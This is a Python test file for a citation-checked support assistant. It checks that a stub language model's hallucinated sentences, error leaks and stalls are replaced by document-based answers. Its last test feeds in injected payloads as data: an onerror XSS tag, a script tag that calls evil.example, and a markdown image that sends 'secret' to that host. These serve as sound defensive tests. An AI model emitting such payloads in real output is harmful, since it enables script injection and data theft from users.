"""Answers of a language model over real HTTP: a real model, poor but honest; its sudden death; and one that misbehaves."""

from __future__ import annotations

import asyncio
import sqlite3
import time
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest
from journey_world import (
    FREEZES,
    WARRANTY,
    Event,
    Json,
    Prepared,
    Served,
    ask,
    is_proved,
    is_told_in_order,
    running_stub,
    serving,
    streamed,
    streaming,
)

from tests.servers.llm_server import LocalLLMServer, missing
from tests.servers.llm_stub import Exchange, Script, answers, says
from tests.servers.ports import wait_for

pytestmark = [pytest.mark.slow, pytest.mark.timeout(600)]

SUPPORTED = "Restart the service TillSync on the till [1]."
INVENTED = "Format the hard disk of the till and buy a new licence for 400 EUR [1]."
MODEL = "stub-model"
PROMPT_S = 1.0
"""From here on a small model has begun to read the prompt, and is far from having written its answer."""


def model_tokens(home: Path) -> int:
    """Tokens that a language model has cost so far."""
    with closing(sqlite3.connect(home / "copilot.db")) as database:
        total = database.execute("SELECT coalesce(sum(prompt_tokens + completion_tokens), 0) FROM usage").fetchone()[0]
    return int(total)


def with_model(base_url: str, model: str, **more: str) -> dict[str, str]:
    return {"LLM__BASE_URL": base_url, "LLM__MODEL": model, "LLM__MAX_TOKENS": "64", "LLM__DEADLINE_S": "240", **more}


def told_text(told: list[Event]) -> str:
    return str([data for _, data in told])


def test_a_real_model_is_called_and_every_sentence_that_leaves_has_its_source(
    prepared: Prepared, tmp_path: Path, llm_server: LocalLLMServer
) -> None:
    home = prepared.copied_to(tmp_path / "home")
    settings = with_model(llm_server.base_url, llm_server.model)
    with serving(home, **settings) as server, server.api(prepared.token) as api:
        for question in (FREEZES, WARRANTY):
            before = model_tokens(home)
            told = streamed(api, question)
            done = is_told_in_order(told)
            is_proved(api, done)
            assert {"event": "meta", "model": llm_server.model} == {"event": told[0][0], "model": told[0][1]["model"]}
            assert done["model"] == ("extractive" if done["degraded"] else llm_server.model)
            assert model_tokens(home) > before


@pytest.fixture
def own_llm() -> Iterator[LocalLLMServer]:
    if reason := missing():
        pytest.skip(reason)
    with LocalLLMServer() as server:
        yield server


def test_a_model_killed_in_mid_answer_costs_the_asker_nothing_and_comes_back(
    prepared: Prepared, tmp_path: Path, own_llm: LocalLLMServer
) -> None:
    home = prepared.copied_to(tmp_path / "home")
    settings = with_model(own_llm.base_url, own_llm.model)
    with serving(home, **settings) as server, server.api(prepared.token) as api:
        told, took = _killed_in_mid_answer(api, own_llm)
        done = is_told_in_order(told)
        is_proved(api, done)
        assert done["degraded"]
        assert done["model"] == "extractive"
        assert took < 10
        _replaced_as_a_whole(told, done)

        spent = model_tokens(home)
        for _ in range(5):
            answer = ask(api, WARRANTY)
            is_proved(api, answer)
            assert answer["degraded"]
        began = time.monotonic()
        is_proved(api, ask(api, WARRANTY))
        assert time.monotonic() - began < 2, "the breaker does not spare the asker a dead model"
        assert model_tokens(home) == spent

        with own_llm:  # again, on the same port
            wait_for(lambda: _called_again(api, home, spent), seconds=120, what="the model's return")


def _killed_in_mid_answer(api: httpx.Client, llm: LocalLLMServer) -> tuple[list[Event], float]:
    """The stream, and seconds from the model's death to its end."""
    told: list[Event] = []
    killed_at = 0.0
    with streaming(api, FREEZES) as heard:
        for event in heard:
            told.append(event)
            if event == ("status", {"stage": "checking"}):
                time.sleep(PROMPT_S)
                llm.kill()
                killed_at = time.monotonic()
    assert killed_at
    return told, time.monotonic() - killed_at


def _replaced_as_a_whole(told: list[Event], done: Json) -> None:
    """Where a part had been said before the model died, it was withdrawn; what counts is what stands last."""
    replacements = [data for name, data in told if name == "replace"]
    assert len(replacements) <= 1
    if replacements:
        assert replacements[0]["text"] == done["text"]


def _called_again(api: httpx.Client, home: Path, spent: int) -> bool:
    is_proved(api, ask(api, WARRANTY))
    return model_tokens(home) > spent


@dataclass
class Puppet:
    """A language model that says what the test wants, and the product in front of it."""

    server: Served
    token: str
    scripts: list[Script] = field(default_factory=list)

    def saying(self, *pieces: str) -> None:
        self.scripts[:] = [says(*pieces)]

    def told(self, question: str = FREEZES) -> tuple[list[Event], Json]:
        with self.server.api(self.token) as api:
            told = streamed(api, question)
            done = is_told_in_order(told)
            if done["outcome"] == "answered":
                is_proved(api, done)
        return told, done


@pytest.fixture(scope="module")
def puppet(prepared: Prepared, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Puppet]:
    scripts: list[Script] = []

    async def current(exchange: Exchange) -> None:
        await scripts[0](exchange)

    home = prepared.copied_to(tmp_path_factory.mktemp("puppet") / "home")
    with (
        running_stub(current) as stub,
        serving(home, **with_model(stub.base_url, MODEL, LLM__IDLE_S="1")) as server,
    ):
        yield Puppet(server, prepared.token, scripts)


def test_supported_sentences_of_the_model_are_the_answer(puppet: Puppet) -> None:
    puppet.saying("Restart the service ", "TillSync on the till [1]. The service ", "listens on port 7443 [1].")
    told, done = puppet.told()
    assert not done["degraded"]
    assert done["model"] == MODEL
    assert [data["text"] for name, data in told if name == "sentence"] == [
        "Restart the service TillSync on the till. [1]",
        "The service listens on port 7443. [1]",
    ]
    assert [citation["source"] for citation in done["citations"]] == ["frozen-till.md"]


@pytest.mark.parametrize(
    "wrong",
    [
        INVENTED,
        "Delete the queue folder [1].",
        "The service listens on port 7444 [1].",
        "Receipt printers carry a warranty of twelve months from delivery [2].",
    ],
    ids=["invented", "negation-lost", "other-number", "facts-swapped"],
)
def test_a_sentence_without_support_is_never_sent(puppet: Puppet, wrong: str) -> None:
    puppet.saying(f"{wrong} ", SUPPORTED)
    told, done = puppet.told()
    assert done["text"] == "Restart the service TillSync on the till. [1]"
    assert wrong.split(" [", maxsplit=1)[0] not in told_text(told)
    assert not done["degraded"]


def test_where_nothing_that_the_model_says_is_supported_the_documents_speak(puppet: Puppet) -> None:
    puppet.saying(INVENTED)
    told, done = puppet.told()
    assert done["degraded"]
    assert done["model"] == "extractive"
    assert "400 EUR" not in told_text(told)


def test_a_model_that_finds_no_answer_is_believed(puppet: Puppet) -> None:
    puppet.saying("NO_", "ANSWER")
    told, done = puppet.told()
    assert done["outcome"] == "abstained"
    assert not done["degraded"]
    assert done["citations"] == []
    assert done["handoff"]["offered"]
    assert "NO_ANSWER" not in told_text(told)
    assert not [name for name, _ in told if name == "sentence"]


def test_a_model_that_falls_silent_is_replaced_by_the_documents(puppet: Puppet) -> None:
    async def stalls(exchange: Exchange) -> None:
        await exchange.begin()
        await exchange.piece(f"{SUPPORTED} And then ")
        await asyncio.sleep(30)

    puppet.scripts[:] = [stalls]
    began = time.monotonic()
    told, done = puppet.told()
    assert time.monotonic() - began < 8
    assert done["degraded"]
    assert done["model"] == "extractive"
    [replacement] = [data for name, data in told if name == "replace"]
    assert replacement == {"text": done["text"], "outcome": "answered"}
    assert [data for name, data in told if name == "citation"][-len(done["citations"]) :] == done["citations"]


def test_a_model_that_answers_with_an_error_is_replaced_by_the_documents(puppet: Puppet) -> None:
    puppet.scripts[:] = [answers(400, '{"error": {"message": "the prompt was: secret"}}')]
    told, done = puppet.told()
    assert done["degraded"]
    assert "the prompt was" not in told_text(told)


@pytest.mark.parametrize(
    ("smuggled", "trace"),
    [
        ("<img src=x onerror=alert(1)>", "onerror"),
        ("<script>fetch('//evil.example')</script>", "evil.example"),
        ("![chart](https://evil.example/p.png?q=secret)", "evil.example"),
        ("[the fix](https://evil.example/fix)", "evil.example"),
        ("See https://evil.example/fix?q=7443.", "evil.example"),
        ("Mail bob.stranger@evil.example.", "bob.stranger"),
        ("[99]", "[99]"),
    ],
    ids=["html", "script", "image", "link", "address", "mail", "forged-citation"],
)
@pytest.mark.parametrize("place", ["within", "apart"])
def test_nothing_that_a_model_smuggles_in_leaves(puppet: Puppet, smuggled: str, trace: str, place: str) -> None:
    """Within a supported sentence, or as a sentence of its own."""
    if place == "within":
        puppet.saying(
            f"Restart the service TillSync {smuggled} on the till [1]. ", "The service listens on port 7443 [1]."
        )
    else:
        puppet.saying(f"{SUPPORTED}\n\n", f"{smuggled}\n\n", "The service listens on port 7443 [1].")
    told, done = puppet.told()
    assert trace not in told_text(told)
    assert "7443" in done["text"]
    assert {citation["n"] for citation in done["citations"]} == set(range(1, len(done["citations"]) + 1))
